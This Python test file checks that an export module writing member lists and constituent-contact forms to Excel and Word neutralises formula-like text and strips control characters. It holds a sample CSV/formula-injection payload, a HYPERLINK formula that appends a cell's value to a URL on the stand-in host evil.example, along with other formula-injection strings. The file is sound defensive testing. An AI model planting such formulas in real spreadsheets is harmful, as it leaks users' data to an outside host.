"""Exports with hostile stored text: never a live formula, never a crash on a control char."""

import io
import re
import zipfile
from datetime import date

import pytest
from docx import Document
from openpyxl import Workbook

from liaison.documents.cells import clean_text, safe_text, write_cell
from liaison.documents.form1 import Form1, Form1Constituent, form1_docx, form1_xlsx
from liaison.documents.form2 import Form2, form2_docx, form2_xlsx
from liaison.documents.tables import xlsx_table
from tests.workbooks import read_workbook

EVIL = '=HYPERLINK("http://evil.example/"&K3,"详情")'
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def form2(**values) -> Form2:
    fields = dict(filled_on=date(2025, 3, 10), member_name="张伟", sector_name="中共",
                  group_name="第一活动组", constituent_name="陈群众", constituent_party="群众",
                  constituent_phone="13900001111", constituent_unit_post="某社区 主任",
                  time_and_place="2025-03-10 10:00", method="走访", content="了解情况",
                  opinions="", remarks="")
    return Form2(**(fields | values))


def member_list(work_unit: str, post: str = "校长") -> bytes:
    return xlsx_table(title="委员名单", headers=["姓名", "工作单位", "职务", "结对人数"],
                      rows=[["张伟", work_unit, post, 2]])


RENDERERS = {
    "member list": member_list,
    "form1": lambda text: form1_xlsx([Form1("张伟", "中共", (
        Form1Constituent("陈群众", "群众", text, "13900001111"),))]),
    "form2": lambda text: form2_xlsx([form2(constituent_unit_post=text)]),
}


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("name", RENDERERS)
def test_text_that_looks_like_a_formula_is_written_as_neutralised_text(name):
    data = RENDERERS[name](EVIL)
    xml = sheet_xml(data)
    assert re.search(r"<(\w+:)?f[ >/]", xml) is None  # no formula element at all
    sheet = read_workbook(data).worksheets[0]
    found = [c for r in sheet.iter_rows() for c in r if "evil.example" in str(c.value or "")]
    assert [(c.value, c.data_type) for c in found] == [("'" + EVIL, "s")]


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "\n=1"), ("#N/A", "#N/A"), ("张=伟", "张=伟"),
    ("a\x01b\x1fc\nd\te\r\nf", "a" + "bc\nd\te\nf"),
])
def test_every_text_cell_is_a_plain_string(value, written):
    cell = write_cell(Workbook().active["A1"], value)
    assert (cell.value, cell.data_type) == (written, "s")
    assert write_cell(Workbook().active["A1"], 12).data_type == "n"
    assert safe_text(value) == written


def test_control_characters_are_removed_from_every_document():
    assert clean_text("职员\x01\x00\x0b 甲\t乙\n") == "职员 甲\t乙\n"
    bad = "主任\x01"
    book = read_workbook(member_list("某中学\x02", post="职员\x01"))
    assert [c.value for c in book.worksheets[0][3]] == ["张伟", "某中学", "职员", 2]
    form = Form1("张\x03伟", "中共", (Form1Constituent("陈群众", "群众", bad, "139"),))
    document = Document(io.BytesIO(form1_docx([form])))
    assert document.paragraphs[2].text == "委员姓名：张伟\t所在界别：中共"
    assert document.tables[0].rows[1].cells[3].text == "主任"
    book = read_workbook(form1_xlsx([form]))
    assert (book.sheetnames, book["张伟"]["D5"].value) == (["张伟"], "主任")
    filled = form2(opinions="建议\x01修路", remarks="无\x1f")
    document = Document(io.BytesIO(form2_docx([filled])))
    assert [document.tables[0].rows[r].cells[1].text for r in (6, 7)] == ["建议修路", "无"]
    sheet = read_workbook(form2_xlsx([filled])).worksheets[0]
    assert [sheet["B10"].value, sheet["B11"].value] == ["建议修路", "无"]
